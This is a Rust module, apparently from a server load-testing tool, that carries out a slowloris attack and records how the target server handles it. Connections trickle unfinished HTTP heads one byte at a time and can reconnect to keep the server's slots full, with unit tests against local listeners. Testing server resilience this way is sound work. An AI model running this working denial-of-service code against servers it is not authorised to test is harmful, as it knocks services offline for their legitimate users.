//! The trickling side of `slowloris`: connections that write a request
//! head one byte at a time and never finish it, and what the server did
//! to them (refused, closed and after how long, answered, or let be).
//!
//! The trickle is spread evenly: connection `i` of `n` connects at `i/n`
//! of an interval and then writes one byte per interval (see
//! [`trickle_at`]), so the attack costs the load generator ~n/interval
//! tiny writes a second, not bursts of thousands.

use crate::stats::AtomicHistogram;
use crate::sys;
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::net::TcpStream;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

/// When connection `i` of `n` writes byte number `k`, from the start of the
/// attack (`k = 0`: it connects and writes its first byte). The first bytes
/// are spread evenly over one interval; each connection then writes one
/// byte per interval.
pub fn trickle_at(i: usize, n: usize, k: u64, interval: Duration) -> Duration {
    let step = interval.as_nanos();
    let offset = step * i as u128 / n.max(1) as u128;
    let at = offset + step * k as u128;
    Duration::from_nanos(at.min(u64::MAX as u128) as u64)
}

/// Byte number `k` of a trickled head: a real request line and headers,
/// then one header value that never ends (no blank line ever comes).
pub fn trickle_byte(prefix: &[u8], k: u64) -> u8 {
    usize::try_from(k)
        .ok()
        .and_then(|k| prefix.get(k).copied())
        .unwrap_or(b'a')
}

/// What the trickling connections did, counted as they go.
#[derive(Default)]
pub struct Tally {
    pub opened: AtomicU64,
    pub connect_failed: AtomicU64,
    pub closed: AtomicU64,
    pub still_open: AtomicU64,
    pub bytes: AtomicU64,
    /// Connects after the first, with `reconnect`.
    pub reconnects: AtomicU64,
    pub closed_after: AtomicHistogram,
    pub answered: Mutex<BTreeMap<u16, u64>>,
}

/// `HTTP/1.1 408 …` → 408.
fn status_of(first_bytes: &[u8]) -> Option<u16> {
    let text = std::str::from_utf8(first_bytes.get(..12)?).ok()?;
    text.strip_prefix("HTTP/1.")?.get(2..5)?.parse().ok()
}

pub struct Trickle {
    pub server: SocketAddr,
    pub source: Option<IpAddr>,
    pub start: Instant,
    pub interval: Duration,
    pub n: usize,
    pub prefix: Arc<[u8]>,
    pub tally: Arc<Tally>,
    pub cancel: CancellationToken,
    /// Connect again after the server ends a connection.
    pub reconnect: bool,
}

impl Trickle {
    /// Connection `i`: connects, trickles until the server ends it or the
    /// run is cancelled; with `reconnect`, connects again at its next
    /// slot after every close or refusal (as a real attacker would, to keep
    /// the server's slots full), so the schedule's pace is kept.
    pub async fn run(self: Arc<Self>, i: usize) {
        let t = &*self;
        // The slot of the next byte (or connect) on the schedule.
        let mut slot = 0u64;
        loop {
            tokio::select! {
                _ = t.cancel.cancelled() => return,
                _ = tokio::time::sleep_until(t.start + trickle_at(i, t.n, slot, t.interval)) => {}
            }
            if slot > 0 {
                t.tally.reconnects.fetch_add(1, Ordering::Relaxed);
            }
            let connect_slot = slot;
            let connected = Instant::now();
            let stream = tokio::select! {
                _ = t.cancel.cancelled() => return,
                r = tokio::time::timeout(Duration::from_secs(10), sys::connect(t.server, t.source)) => r,
            };
            match stream {
                Ok(Ok(stream)) => {
                    t.tally.opened.fetch_add(1, Ordering::Relaxed);
                    if !self.trickle_on(&stream, i, &mut slot).await {
                        t.tally.still_open.fetch_add(1, Ordering::Relaxed);
                        return;
                    }
                    t.tally.closed.fetch_add(1, Ordering::Relaxed);
                    let ns = connected.elapsed().as_nanos() as u64;
                    t.tally.closed_after.record(ns);
                }
                _ => {
                    t.tally.connect_failed.fetch_add(1, Ordering::Relaxed);
                }
            }
            if !t.reconnect {
                return;
            }
            // The next free slot, and never the same one again.
            slot = slot.max(connect_slot + 1);
        }
    }

    /// Trickles the head on `stream` from byte 0, one byte per slot from
    /// `slot` on; true when the server ended the connection, false when the
    /// run was cancelled first.
    async fn trickle_on(&self, stream: &TcpStream, i: usize, slot: &mut u64) -> bool {
        let t = self;
        let mut k = 0u64;
        let mut answered = false;
        let mut buf = [0u8; 256];
        loop {
            let at = t.start + trickle_at(i, t.n, *slot, t.interval);
            tokio::select! {
                _ = t.cancel.cancelled() => return false,
                _ = tokio::time::sleep_until(at) => {
                    match stream.try_write(&[trickle_byte(&t.prefix, k)]) {
                        Ok(_) => {
                            k += 1;
                            *slot += 1;
                            t.tally.bytes.fetch_add(1, Ordering::Relaxed);
                        }
                        // A full send buffer: the server is not reading.
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => *slot += 1,
                        Err(_) => return true,
                    }
                }
                r = stream.readable() => {
                    if r.is_err() {
                        return true;
                    }
                    match stream.try_read(&mut buf) {
                        Ok(0) => return true,
                        Ok(n) => {
                            if !answered {
                                answered = true;
                                let status = status_of(&buf[..n]).unwrap_or(0);
                                let mut map = t.tally.answered.lock().expect("tally poisoned");
                                *map.entry(status).or_default() += 1;
                            }
                        }
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                        Err(_) => return true,
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_connection_trickles_one_byte_per_interval() {
        let interval = Duration::from_secs(5);
        for i in [0, 1, 2_499, 4_999] {
            for k in 0..10 {
                let gap = trickle_at(i, 5_000, k + 1, interval) - trickle_at(i, 5_000, k, interval);
                assert_eq!(gap, interval, "connection {i}, byte {k}");
            }
        }
    }

    #[test]
    fn first_bytes_spread_evenly_over_one_interval() {
        let interval = Duration::from_secs(5);
        let n = 5_000;
        let starts: Vec<Duration> = (0..n).map(|i| trickle_at(i, n, 0, interval)).collect();
        assert_eq!(starts[0], Duration::ZERO);
        assert!(*starts.last().unwrap() < interval);
        for w in starts.windows(2) {
            // 5 s / 5 000 = 1 ms between two connections' first bytes.
            assert_eq!(w[1] - w[0], Duration::from_millis(1));
        }
    }

    #[test]
    fn a_trickled_head_never_ends() {
        let prefix = b"GET / HTTP/1.1\r\nX: ";
        let head: Vec<u8> = (0..200).map(|k| trickle_byte(prefix, k)).collect();
        assert!(head.starts_with(prefix));
        assert!(!head.windows(4).any(|w| w == b"\r\n\r\n"));
        assert_eq!(trickle_byte(prefix, u64::MAX), b'a');
    }

    #[test]
    fn a_status_line_gives_its_status() {
        assert_eq!(status_of(b"HTTP/1.1 408 Request Timeout\r\n"), Some(408));
        assert_eq!(status_of(b"HTTP/1.0 503 x"), Some(503));
        assert_eq!(status_of(b"garbage that is long"), None);
        assert_eq!(status_of(b"HTTP/1.1"), None);
    }

    fn trickle(server: SocketAddr, interval: Duration, cancel: &CancellationToken) -> Trickle {
        Trickle {
            server,
            source: None,
            start: Instant::now(),
            interval,
            n: 1,
            prefix: b"GET / HTTP/1.1\r\n".to_vec().into(),
            tally: Arc::new(Tally::default()),
            cancel: cancel.clone(),
            reconnect: false,
        }
    }

    /// A server that answers a slow head and hangs up is counted as
    /// closing it, with the status it wrote.
    #[tokio::test]
    async fn a_connection_the_server_ends_is_counted_as_closed_with_its_answer() {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let cancel = CancellationToken::new();
        let t = Arc::new(trickle(
            listener.local_addr().unwrap(),
            Duration::from_millis(5),
            &cancel,
        ));
        let server = tokio::spawn(async move {
            let (mut socket, _) = listener.accept().await.unwrap();
            let mut got = [0u8; 3];
            socket.read_exact(&mut got).await.unwrap();
            socket
                .write_all(b"HTTP/1.1 408 Request Timeout\r\nConnection: close\r\n\r\n")
                .await
                .unwrap();
            got
        });
        t.clone().run(0).await;
        assert_eq!(&server.await.unwrap(), b"GET");
        assert_eq!(t.tally.opened.load(Ordering::Relaxed), 1);
        assert_eq!(t.tally.closed.load(Ordering::Relaxed), 1);
        assert_eq!(t.tally.still_open.load(Ordering::Relaxed), 0);
        assert_eq!(t.tally.closed_after.snapshot().count, 1);
        let answered = t.tally.answered.lock().unwrap().clone();
        assert_eq!(answered, BTreeMap::from([(408, 1)]));
    }

    /// A connection the server keeps is still open when the run ends, and
    /// the server received the head's bytes in order.
    #[tokio::test]
    async fn a_connection_the_server_keeps_is_still_open_at_the_end() {
        use tokio::io::AsyncReadExt;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let cancel = CancellationToken::new();
        let t = Arc::new(trickle(
            listener.local_addr().unwrap(),
            Duration::from_millis(2),
            &cancel,
        ));
        let stop = cancel.clone();
        let server = tokio::spawn(async move {
            let (mut socket, _) = listener.accept().await.unwrap();
            let mut got = [0u8; 20];
            socket.read_exact(&mut got).await.unwrap();
            stop.cancel();
            (got, socket)
        });
        t.clone().run(0).await;
        let (got, _socket) = server.await.unwrap();
        assert_eq!(&got, b"GET / HTTP/1.1\r\naaaa");
        assert_eq!(t.tally.closed.load(Ordering::Relaxed), 0);
        assert_eq!(t.tally.still_open.load(Ordering::Relaxed), 1);
        assert!(t.tally.bytes.load(Ordering::Relaxed) >= 20);
    }

    /// Nobody listening: refused at connect, never opened.
    #[tokio::test]
    async fn a_refused_connect_is_counted_as_such() {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap();
        let cancel = CancellationToken::new();
        let t = Arc::new(trickle(port, Duration::from_millis(1), &cancel));
        t.clone().run(0).await;
        assert_eq!(t.tally.connect_failed.load(Ordering::Relaxed), 1);
        assert_eq!(t.tally.opened.load(Ordering::Relaxed), 0);
    }

    /// With `reconnect`, a connection the server ends is opened again at
    /// its next slot, and the new one trickles the head from its start.
    #[tokio::test]
    async fn a_reconnecting_trickle_comes_back_after_each_close() {
        use tokio::io::AsyncReadExt;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let cancel = CancellationToken::new();
        let mut t = trickle(
            listener.local_addr().unwrap(),
            Duration::from_millis(2),
            &cancel,
        );
        t.reconnect = true;
        let t = Arc::new(t);
        let stop = cancel.clone();
        let server = tokio::spawn(async move {
            // Hang up on the first two at once; read the third's head.
            for _ in 0..2 {
                drop(listener.accept().await.unwrap());
            }
            let (mut socket, _) = listener.accept().await.unwrap();
            let mut got = [0u8; 5];
            socket.read_exact(&mut got).await.unwrap();
            stop.cancel();
            (got, socket)
        });
        t.clone().run(0).await;
        assert_eq!(t.tally.opened.load(Ordering::Relaxed), 3);
        assert_eq!(t.tally.reconnects.load(Ordering::Relaxed), 2);
        assert_eq!(t.tally.closed.load(Ordering::Relaxed), 2);
        assert_eq!(t.tally.still_open.load(Ordering::Relaxed), 1);
        let (got, _socket) = server.await.unwrap();
        assert_eq!(&got, b"GET /");
    }
}
